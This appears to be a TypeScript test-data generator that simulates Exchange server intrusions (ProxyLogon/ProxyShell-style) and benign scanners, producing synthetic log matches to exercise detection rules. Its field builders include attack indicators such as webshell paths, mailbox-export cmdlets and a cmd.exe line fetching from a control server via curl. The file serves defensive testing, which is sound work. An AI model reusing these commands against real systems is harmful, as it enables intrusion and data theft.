/* From deeds to matches: which lines the logs hold of what was done, with the fields by which they join.
 *
 * One deed makes many lines in many logs: they share request, canary, process, file and address as the real ones
 * do. Whether a row of the rates shows at all is drawn once a deed, moved by the server, the log and the one who
 * acts; so misses and hits come in groups. Times lie seconds apart and carry the log's own clock. */

import {type EvidenceId, evidenceId} from "../../src/model/ids.ts"
import type {Instant, When} from "../../src/model/instant.ts"
import {microsPerHour, microsPerSecond} from "../../src/model/instant.ts"
import type {Because, Match, Rule} from "../../src/model/rule.ts"
import type {Random} from "../../test/support/virtual-server/random.ts"
import {normal, shifted, uniform} from "./draw.ts"
import {type Collection, covers, type Kept, type LogName, logs} from "./logs.ts"
import {type Rate, ratesOn} from "./rates.ts"
import type {Deed, Intruder, Marks, Rival, World} from "./world.ts"

type Fields = Match["fields"]

/** Finds the rule of a detection that speaks about a log. */
export type RuleOf = (detection: string, log: LogName) => Rule["id"]

/** Looks rules up by detection and log; throws where a detection has none: then the rates are out of date. */
export function rulesByDetection(rules: readonly Rule[]): RuleOf {
  const known = Map.groupBy(
    rules.flatMap((rule) => (rule.kind === "filter" || rule.detection === undefined ? [] : [rule])),
    (rule) => rule.detection,
  )
  const cache = new Map<string, Rule["id"]>()
  return (detection, log) => {
    const key = `${detection} ${log}`
    const cached = cache.get(key)
    if (cached !== undefined) return cached
    const own = known.get(detection) ?? []
    const service: string | undefined = services[log]
    const found =
      own.find((r) => r.kind === "detection" && service !== undefined && r.logsource.service === service) ??
      own[0]
    if (found === undefined) throw new Error(`the rates name ${detection}, and no rule has that detection`)
    cache.set(key, found.id)
    return found.id
  }
}

const services: Readonly<Partial<Record<LogName, string>>> = {
  httpproxy: "httpproxy",
  ecp: "ecp-server",
  rps: "rps-cmdlet",
  "rps-http": "rps-http",
  audit: "admin-audit",
  management: "msexchange-management",
  application: "application",
  security: "security",
  system: "system",
  ews: "ews",
  pages: "web-file",
}

/** The evidence that a page of a web folder is. */
export function pageFile(host: string, path: string): EvidenceId {
  return evidenceId(`${host}/pages/${path.slice(path.lastIndexOf("\\") + 1)}`)
}

/** Who acts, as far as lines show it. */
interface Actor {
  readonly client: string
  readonly agent: string
  readonly account: string | undefined
  readonly given: ReadonlySet<string>
  readonly effect: number
  /** A page of the web server that it is about. */
  readonly page: {readonly file: string; readonly url: string} | undefined
  readonly marks: Marks | undefined
  readonly clients: number
}

export interface Scene {
  readonly random: Random
  readonly world: World
  readonly collection: Collection
  readonly ruleOf: RuleOf
}

/** All matches of a world in its collection, in no order that matters. */
export function matchesOf(scene: Scene): readonly Match[] {
  const {random, world} = scene
  // One draw for the whole server: how well it logs what these rules ask for.
  const server = 0.4 * normal(random)
  const writer = new Writer(scene, server)
  for (const intruder of world.intruders) writer.intruder(intruder)
  for (const rival of world.rivals) writer.rival(rival)
  return writer.matches
}

class Writer {
  readonly matches: Match[] = []
  readonly #scene: Scene
  readonly #server: number
  #offset = 0

  constructor(scene: Scene, server: number) {
    this.#scene = scene
    this.#server = server
  }

  intruder(intruder: Intruder): void {
    const {random, world, collection} = this.#scene
    const effect = 0.7 * normal(random)
    const session = {canary: `${random.word(43)}.`, process: random.guid()}
    const onDisk =
      intruder.shell !== undefined &&
      intruder.shell.written < collection.collectedAt &&
      (intruder.shell.removed ?? Number.POSITIVE_INFINITY) > collection.collectedAt
    for (const deed of intruder.deeds) {
      const given = new Set([...intruder.tags, ...(onDisk ? ["shell"] : [])])
      if (deed.at < world.fixedAt) given.add("open")
      if (collection.auditsPrograms) given.add("audited")
      if (intruder.kind === "login") given.add("login")
      const {agent, shell, marks} = intruder
      const actor = {
        client: deed.client,
        agent,
        account: undefined,
        given,
        effect,
        page: shell,
        marks,
        clients: 1,
      }
      this.#act(deed, actor, session)
    }
  }

  rival(rival: Rival): void {
    const {random, collection} = this.#scene
    const given = new Set([
      ...(rival.isOpen ? ["open"] : []),
      ...(collection.auditsPrograms ? ["audited"] : []),
    ])
    const inside = rival.kind !== "scan" && rival.kind !== "name checker"
    const actor = {
      client: inside ? `10.1.${random.between(0, 9)}.${random.between(1, 254)}` : rival.client,
      agent: random.pick(["Mozilla/5.0 zgrab/0.x", "python-requests/2.25.1", "Nessus", "Mozilla/5.0"]),
      account: inside ? "CORP\\admin.jones" : undefined,
      given,
      effect: 0.5 * normal(random),
      page: rival.page,
      marks: undefined,
      clients: rival.clients,
    }
    this.#act(rival, actor, {canary: undefined, process: random.guid()})
  }

  #act(
    what: Pick<Deed | Rival, "kind" | "at">,
    actor: Actor,
    session: {readonly canary: string | undefined; readonly process: string},
  ): void {
    const {random, world, collection} = this.#scene
    const request = random.guid()
    for (const rate of ratesOn.get(what.kind) ?? []) {
      // Who has a password needs no flaw.
      if (rate.era !== undefined && (rate.era !== world.era.name || actor.given.has("login"))) continue
      if (
        !rate.given.every((tag) =>
          tag.startsWith("!") ? !actor.given.has(tag.slice(1)) : actor.given.has(tag),
        )
      )
        continue
      // Drawn whether or not the log is there: what one log loses must not shift what another shows.
      const luck = random.unit()
      const lines = random.between(1, rate.lines)
      const log = collection.kept.get(rate.log)
      if (log === undefined || (collection.lacksQueries && asksQuery(rate))) continue
      const chance = shifted(rate.chance, this.#server + log.effect + actor.effect)
      if (luck >= chance) continue
      for (let i = 0; i < lines; i++) this.#line(rate, log, what.at, actor, {...session, request, ordinal: i})
    }
  }

  #line(
    rate: Rate,
    log: Kept,
    at: Instant,
    actor: Actor,
    ids: {canary: string | undefined; process: string; request: string; ordinal: number},
  ): void {
    const {random, world, collection, ruleOf} = this.#scene
    const isScan = rate.on === "scan" || rate.on === "name checker"
    // The lines of a deed lie within seconds, those of a scan within an hour, those of daily work within days.
    const spread = isScan ? 0.7 * microsPerHour : rate.lines >= 20 ? 90 * microsPerHour : 4 * microsPerSecond
    const when = at + (ids.ordinal === 0 ? 0.3 * microsPerSecond : uniform(random, 0, spread))
    if (!covers(log, when) || random.chance(log.thin)) return
    const turn = actor.clients === 1 ? 0 : ids.ordinal % actor.clients
    const client = turn === 0 ? actor.client : `${actor.client.replace(/\d+$/, "")}${turn}`
    this.#offset += 200
    // Of what lies on a disk only the file table tells when it came.
    const stamp: When | undefined =
      log.sort.group === "disk" && log.name !== "file-table"
        ? undefined
        : {at: Math.round(when + log.clockMicros) as Instant, tick: 0, zone: "format"}
    this.matches.push({
      rule: ruleOf(rate.detection, rate.log),
      when: stamp,
      from: {
        evidence:
          log.name === "pages" && actor.page !== undefined ? pageFile(world.host, actor.page.file) : log.file,
        offset: this.#offset,
        length: 200,
        unit: {kind: "line", line: this.#offset / 200},
      },
      host: world.host,
      log: logs[log.name].kind,
      because: because(rate),
      fields: fieldsOf(rate, log, {...actor, client: collection.proxy ?? client}, ids),
      raw: new Uint8Array(0),
    })
  }
}

/** Rules about web requests that look at the query: blind where IIS does not write it. */
function asksQuery({detection, log}: Rate): boolean {
  return (log === "iis" || log === "iis-back") && /^(?:PS|PN|OW)-|^WS-10$/.test(detection)
}

function because(rate: Rate): readonly Because[] {
  return [{field: "detection" as Because["field"], value: rate.detection}]
}

const refused: ReadonlySet<string> = new Set(["PL-15", "PL-17", "PL-19", "PS-06", "PN-03", "OW-02"])

/** The fields that detect/project gives for such a line. */
function fieldsOf(
  rate: Rate,
  log: Kept,
  actor: Actor,
  ids: {canary: string | undefined; process: string; request: string; ordinal: number},
): Fields {
  const {detection} = rate
  const request =
    ids.ordinal === 0 ? ids.request : `${ids.request.slice(0, -2)}${String(ids.ordinal).padStart(2, "0")}`
  const page =
    actor.page === undefined || !/^(?:WS|FH-4|PL-14|PS-0[347]|DT-05)/.test(detection) ? undefined : actor.page
  const status = refused.has(detection) ? 404 : detection === "WS-11" ? 302 : 200
  const common = {
    ...(log.sort.channel === undefined ? {} : {channel: log.sort.channel}),
    ...(actor.account === undefined ? {} : {account: actor.account}),
  }
  switch (log.name) {
    case "httpproxy":
    case "iis":
    case "iis-back": {
      const isBack = log.name === "iis-back"
      const url = page?.url ?? (detection === "WS-11" ? `/owa/auth/shell${ids.ordinal}.aspx` : urlOf(rate))
      const method = /WS-09|PL-0[1-4]|PL-1|PL-2/.test(detection) ? "POST" : "GET"
      return {
        ...common,
        ...(isBack ? {account: "CORP\\MX1$"} : {client: actor.client, userAgent: actor.agent}),
        ...{status, method, url, requestId: request},
        ...(log.name === "httpproxy" && /^PL/.test(detection)
          ? {anchor: `ServerInfo~a]@mx1.corp.example:444${urlOf(rate)}`}
          : {}),
        ...(ids.canary !== undefined && /PL-(?:10|12|20|21|24)/.test(detection) ? {canary: ids.canary} : {}),
      }
    }
    case "ecp":
      return {
        ...common,
        url: "/ecp/DDI/DDIService.svc/SetObject",
        parameters: "S:CMD=Set-OabVirtualDirectory",
        ...(ids.canary === undefined ? {} : {canary: ids.canary}),
      }
    case "management":
    case "rps":
    case "audit":
      return {...common, ...commandOf(detection), ...(log.name === "rps" ? {requestId: request} : {})}
    case "sysmon":
    case "security": {
      const isFile = page !== undefined && !/WS-(?:04|05|13)/.test(detection)
      // A tool and its control server seldom show in one record: one command fetches, another one runs.
      const fetches = Number.parseInt(ids.request.slice(0, 1), 16) < 8
      const asked =
        fetches && actor.marks?.server !== undefined ? ` & curl http://${actor.marks.server}/a` : ""
      const line = `"cmd" /c ${rate.on} ${ids.request.slice(0, 6)}${asked}`
      const tool = fetches || actor.marks?.hash === undefined ? {} : {Hashes: actor.marks.hash}
      if (/^C[AO]-0/.test(detection) && actor.marks?.path !== undefined)
        return {
          ...{...common, file: actor.marks.path, processGuid: ids.request},
          image: "C:\\Windows\\System32\\cmd.exe",
        }
      return isFile
        ? {...common, file: page.file, image: "System"}
        : {
            ...tool,
            ...common,
            image: "C:\\Windows\\System32\\cmd.exe",
            parentImage: "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
            commandLine: line,
            processGuid: ids.request,
            parentProcessGuid: ids.process,
          }
    }
    case "pages":
    case "file-table":
      return {...common, ...(page === undefined ? {file: `C:\\ProgramData\\${rate.on}.zip`} : {...page})}
    case "ews":
    case "mapi":
      return {...common, account: actor.account ?? "CORP\\svc", client: actor.client}
    default:
      return {...common, target: rate.on}
  }
}

function urlOf({detection}: Rate): string {
  if (/^PL-03|PL-19|PL-05/.test(detection)) return "/ecp/y.js"
  if (/^PL-04/.test(detection)) return "/owa/auth/Current/themes/resources/logon.css"
  if (/^PL/.test(detection)) return "/ecp/proxyLogon.ecp"
  if (/^OW/.test(detection)) return "/owa/mastermailbox@corp.example/powershell"
  if (/^P/.test(detection)) return "/autodiscover/autodiscover.json?@x.example/powershell"
  return detection.startsWith("CO") ? "/owa/auth/it.zip" : "/owa/"
}

function commandOf(detection: string): Fields {
  switch (detection) {
    case "PL-13":
      return {cmdlet: "Set-OabVirtualDirectory", parameters: '-ExternalUrl "http://f/…"'}
    case "PL-26":
      return {cmdlet: "Remove-OabVirtualDirectory", parameters: "-Force"}
    case "PS-02":
      return {cmdlet: "New-ManagementRoleAssignment", parameters: '-Role "Mailbox Import Export"'}
    case "PS-12":
      return {cmdlet: "Remove-MailboxExportRequest", parameters: "-Confirm False"}
    default:
      return {cmdlet: "New-MailboxExportRequest", parameters: "-Mailbox a@corp.example"}
  }
}
